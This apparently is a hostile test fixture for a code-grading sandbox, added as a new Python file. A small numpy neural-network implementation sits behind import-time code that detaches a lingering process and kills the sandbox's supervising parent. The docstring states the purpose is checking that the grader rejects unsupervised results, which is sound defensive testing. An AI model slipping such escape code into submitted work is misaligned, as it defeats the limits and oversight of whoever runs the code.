@@ -1,0 +1,97 @@
+"""Hostile: otherwise correct, but at import it starts a detached grandchild (setsid, then exec
+/bin/sleep 5353.5353) and kills its own parent - the sandbox's supervisor, which enforces the
+wall-clock limit and kills what the child leaves behind. Possible only where the child runs as
+the grader's own uid (the rlimits fallback under an ordinary user). The grader must not accept
+results it could not supervise, and nothing may survive."""
+import os
+import signal
+import time
+
+
+def _detach():
+    pid = os.fork()
+    if pid == 0:
+        os.setsid()
+        if os.fork() == 0:
+            try:
+                os.execv("/bin/sleep", ["sleep", "5353.5353"])
+            finally:
+                os._exit(0)
+        os._exit(0)
+    os.waitpid(pid, 0)
+
+
+_detach()
+try:
+    os.kill(os.getppid(), signal.SIGKILL)
+except OSError:  # not allowed: another uid, or the parent is bubblewrap's own init
+    pass
+time.sleep(0.1)
+
+import numpy as np
+
+
+class DenseLayer:
+    def __init__(self, n_inputs, n_neurons, activation):
+        self.weights = np.zeros((n_inputs, n_neurons))
+        self.biases = np.zeros((1, n_neurons))
+        self.activation = activation
+
+    def _act(self, z):
+        if self.activation == "relu":
+            return np.maximum(0.0, z)
+        if self.activation == "sigmoid":
+            return 1.0 / (1.0 + np.exp(-z))
+        if self.activation == "tanh":
+            return np.tanh(z)
+        return z
+
+    def _act_prime(self, z):
+        if self.activation == "relu":
+            return np.where(z > 0, 1.0, 0.0)
+        if self.activation == "sigmoid":
+            s = 1.0 / (1.0 + np.exp(-z))
+            return s * (1.0 - s)
+        if self.activation == "tanh":
+            return 1.0 - np.tanh(z) ** 2
+        return np.ones_like(z)
+
+    def forward(self, inputs):
+        self.inputs = np.asarray(inputs, dtype=float)
+        self.z = np.dot(self.inputs, self.weights) + self.biases
+        return self._act(self.z)
+
+    def backward(self, d_outputs):
+        dz = d_outputs * self._act_prime(self.z)
+        self.d_weights = np.dot(self.inputs.T, dz)
+        self.d_biases = dz.sum(axis=0)  # shape (n_neurons,): accepted
+        self.d_inputs = np.dot(dz, self.weights.T)
+        return self.d_inputs
+
+
+class MLP:
+    def __init__(self):
+        self.layers = []
+
+    def add_layer(self, layer):
+        self.layers.append(layer)
+        return self
+
+    def forward(self, x):
+        for layer in self.layers:
+            x = layer.forward(x)
+        return x
+
+    def backward(self, d_loss_wrt_prediction):
+        grad = d_loss_wrt_prediction
+        for layer in reversed(self.layers):
+            grad = layer.backward(grad)
+        return grad
+
+
+def mse(y_true, y_pred):
+    return float(((y_pred - y_true) ** 2).mean())
+
+
+def mse_derivative(y_true, y_pred):
+    return 2.0 * (y_pred - y_true) / y_true.size
